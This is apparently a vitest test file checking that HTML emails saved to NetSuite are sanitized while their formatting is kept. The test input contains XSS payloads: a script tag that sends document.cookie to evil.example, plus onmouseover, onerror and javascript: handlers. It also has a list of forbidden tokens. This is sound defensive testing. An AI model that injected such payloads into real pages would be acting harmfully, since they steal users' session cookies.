import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, startHarness } from '../../helpers/harness.js';
import { click, emailId, netsuiteMessages } from '../autopilot/kit.js';

const HOSTILE =
  '<p onmouseover="steal()">Order <b>1042</b> is late.<script>fetch("https://evil.example/"+document.cookie)</script></p>' +
  '<table><tr><td>Widget</td><td>3</td></tr></table>' +
  '<a href="javascript:alert(1)">track</a> <a href="https://contoso.com/orders/1042">order</a>' +
  '<img src="x" onerror="alert(2)"><img src="cid:image001.png@01DA">';

/** F4 of issue 11: an email's HTML reaches NetSuite sanitized, with its formatting and a note for inline images. */
describe('an HTML email saved to NetSuite', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await startHarness();
    await h.watch('support@contoso.com');
    h.sandbox.graph.deliver({
      to: ['support@contoso.com'],
      from: 'ana@fabrikam.com',
      subject: 'Hostile HTML',
      body: HOSTILE,
      bodyType: 'html',
    });
    await h.settle();
  });
  afterAll(async () => h?.close());

  it('keeps the formatting, tables and safe links, and nothing that runs', async () => {
    const id = await emailId(h, 'Hostile HTML');
    await click(h, 'save', { emailId: id, records: 'contact:201' });
    await h.settle();
    const [saved] = netsuiteMessages(h, 'Hostile HTML');
    const body = String(saved?.fields.message ?? '');
    expect(body).toContain('<b>1042</b>');
    expect(body).toContain('<td>Widget</td>');
    expect(body).toContain('href="https://contoso.com/orders/1042"');
    expect(body).toContain('2 images embedded in this email were left out');
    for (const bad of ['<script', 'onmouseover', 'onerror', 'javascript:', 'cid:', 'evil.example']) {
      expect(body, bad).not.toContain(bad);
    }
  });
});
